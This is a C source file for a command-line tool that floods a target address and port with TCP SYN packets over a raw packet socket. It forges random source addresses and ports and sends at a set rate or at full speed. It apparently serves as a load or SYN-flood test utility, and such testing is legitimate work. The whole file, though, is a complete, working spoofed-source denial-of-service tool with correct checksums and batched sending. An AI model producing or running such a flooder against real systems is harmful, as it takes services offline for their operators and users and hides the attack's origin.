/* SPDX-License-Identifier: BSD-3-Clause */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

/*
 * A flood: SYNs from random sources of 100.64.0.0/10 out of an interface, so many a second or, with 0,
 * as fast as it takes them, until the end of its input. Prints a line when it begins, then how many
 * there were, and how many a second.
 *
 *   send_syns INTERFACE GATEWAY-MAC ADDRESS PORT RATE
 */

#define BATCH 64

struct frame {
	uint8_t ether[14];
	uint8_t ip[20];
	uint8_t tcp[20];
};

static double seconds(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static uint16_t sum(const uint8_t *bytes, unsigned int length, uint32_t total)
{
	for (unsigned int i = 0; i < length; i += 2)
		total += (uint32_t)(bytes[i] << 8 | bytes[i + 1]);
	while (total >> 16)
		total = (total & 0xffff) + (total >> 16);
	return htons((uint16_t)~total);
}

static void fill(struct frame *f, uint64_t random)
{
	uint32_t source = htonl(0x64400000u | (uint32_t)(random & 0x3fffff));
	uint16_t port = (uint16_t)(random >> 32), check;

	memcpy(f->ip + 12, &source, 4);
	memset(f->ip + 10, 0, 2);
	check = sum(f->ip, 20, 0);
	memcpy(f->ip + 10, &check, 2);
	f->tcp[0] = (uint8_t)(4 | port >> 8);
	f->tcp[1] = (uint8_t)port;
	memcpy(f->tcp + 4, &random, 4);
	memset(f->tcp + 16, 0, 2);
	check = sum(f->tcp, 20, 0);
	check = sum(f->ip + 12, 8, (uint32_t)(uint16_t)~ntohs(check) + IPPROTO_TCP + 20);
	memcpy(f->tcp + 16, &check, 2);
}

int main(int argc, char **argv)
{
	struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_protocol = htons(ETHERTYPE_IP)};
	static struct frame frames[BATCH];
	struct mmsghdr messages[BATCH] = {0};
	struct iovec parts[BATCH];
	struct pollfd input = {.fd = STDIN_FILENO, .events = POLLIN};
	double begin, rate = argc == 6 ? atof(argv[5]) : 0;
	uint64_t x = 0x2545f4914f6cdd1dull, sent = 0;
	struct frame one = {.ether = {0}, .ip = {0x45, 0, 0, 40, 0, 0, 0x40, 0, 64, IPPROTO_TCP},
			    .tcp = {[12] = 5 << 4, [13] = 2, [14] = 0xff, [15] = 0xff}};
	uint16_t port = argc == 6 ? htons((uint16_t)atoi(argv[4])) : 0;
	int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);

	if (port == 0 || sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &one.ether[0], &one.ether[1],
				&one.ether[2], &one.ether[3], &one.ether[4], &one.ether[5]) != 6 ||
	    inet_pton(AF_INET, argv[3], one.ip + 16) != 1) {
		fputs("send_syns INTERFACE GATEWAY-MAC ADDRESS PORT RATE\n", stderr);
		return 2;
	}
	to.sll_ifindex = (int)if_nametoindex(argv[1]);
	if (fd < 0 || bind(fd, (struct sockaddr *)&to, sizeof(to)) < 0) {
		perror("send_syns");
		return 1;
	}
	memcpy(one.ether + 6, (const uint8_t[]){2, 0, 0, 0, 0, 0x66, 8, 0}, 8);
	memcpy(one.tcp + 2, &port, 2);
	for (unsigned int i = 0; i < BATCH; i++) {
		frames[i] = one;
		parts[i] = (struct iovec){&frames[i], sizeof(frames[i])};
		messages[i].msg_hdr = (struct msghdr){.msg_iov = &parts[i], .msg_iovlen = 1};
	}
	puts("sending");
	fflush(stdout);
	begin = seconds();
	/* Ahead of its time it waits for a millisecond, or for the end. */
	while (poll(&input, 1, rate > 0 && (double)sent > rate * (seconds() - begin)) == 0) {
		int n;

		if (rate > 0 && (double)sent > rate * (seconds() - begin))
			continue;
		for (unsigned int i = 0; i < BATCH; i++) {
			x ^= x << 13;
			x ^= x >> 7;
			x ^= x << 17;
			fill(&frames[i], x);
		}
		n = sendmmsg(fd, messages, BATCH, 0);
		sent += n > 0 ? (uint64_t)n : 0;
	}
	printf("%llu %.0f\n", (unsigned long long)sent, (double)sent / (seconds() - begin));
	return 0;
}
